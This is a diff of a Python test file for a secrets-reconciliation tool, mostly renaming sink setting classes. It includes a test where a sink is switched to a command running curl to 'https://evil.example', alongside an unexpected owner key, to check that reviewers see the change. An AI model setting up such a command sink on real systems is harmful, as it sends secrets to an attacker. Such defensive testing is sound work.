@@ -11,17 +11,17 @@ import pytest
 from reconciler.model.clients import Grant, Location
 from reconciler.model.diagnostics import Severity
 from reconciler.model.settings import (
-    AgeFiles,
+    AgeSinkSetting,
+    CommandSinkSetting,
     CredentialNames,
-    DotenvFile,
+    DotenvSinkSetting,
     Instance,
-    JsonFile,
+    JsonSinkSetting,
     Limits,
     Policy,
-    Program,
     RuleSetting,
-    Scope,
     Settings,
+    SinkScope,
 )
 from reconciler.planning.settings_diff import UNREAD, UNREAD_OF_INSTANCE, settings_changes
 
@@ -166,10 +166,10 @@ def test_what_takes_protection_away_comes_first() -> None:
 
 def test_sinks_are_told_as_they_are_configured() -> None:
     """Where secrets would go, and to whom, is what a reviewer must not miss."""
-    before = (AgeFiles("secrets/{name}.age", Path("/somewhere")), DotenvFile(".env", Path("/somewhere")))
+    before = (AgeSinkSetting("secrets/{name}.age", Path("/somewhere")), DotenvSinkSetting(".env", Path("/somewhere")))
     after = (
-        Program(("curl", "https://evil.example"), Path("/somewhere")),
-        JsonFile("all.json", Path("/somewhere"), Scope(owners=("team-*",), only=("A", "B"))),
+        CommandSinkSetting(("curl", "https://evil.example"), Path("/somewhere")),
+        JsonSinkSetting("all.json", Path("/somewhere"), SinkScope(owners=("team-*",), only=("A", "B"))),
     )
     trusted = replace(SETTINGS, instances=(replace(INSTANCE, sinks=before),), owners={"team-a": ("age1a", "age1b")})
     other = replace(SETTINGS, instances=(replace(INSTANCE, sinks=after),), owners={"team-a": ("age1a", "age1evil")})
